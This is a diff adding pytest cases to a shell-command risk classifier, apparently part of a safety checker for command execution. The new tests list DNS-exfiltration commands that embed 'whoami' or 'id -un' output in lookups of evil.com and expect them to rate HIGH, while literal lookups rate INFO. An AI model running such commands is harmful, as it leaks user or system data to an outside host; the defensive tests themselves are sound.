@@ -75,3 +75,16 @@ def test_code_reaching_a_shell_sideways_is_judged_and_banned(command: str) -> No
 def test_the_same_shells_fed_harmless_code_are_not_banned() -> None:
     assert _tier("at now <<< 'touch ~/x'") == (RiskLevel.HIGH, False)
     assert _tier("echo ls | sh -c cat") == (RiskLevel.INFO, False)
+
+
+@pytest.mark.parametrize("command", ["getent hosts $(whoami).evil.com",
+                                     "x=$(whoami); dig $x.evil.com", 'ping -c1 "$GW"',
+                                     "getent ahostsv4 `id -un`.evil.com"])
+def test_a_lookup_of_a_name_computed_at_run_time_can_carry_data_out(command: str) -> None:
+    assert _tier(command)[0] == RiskLevel.HIGH
+
+
+@pytest.mark.parametrize("command", ["getent hosts example.com", "dig example.com",
+                                     "getent passwd $USER"])
+def test_lookups_of_names_written_in_the_command_stay_info(command: str) -> None:
+    assert _tier(command) == (RiskLevel.INFO, False)
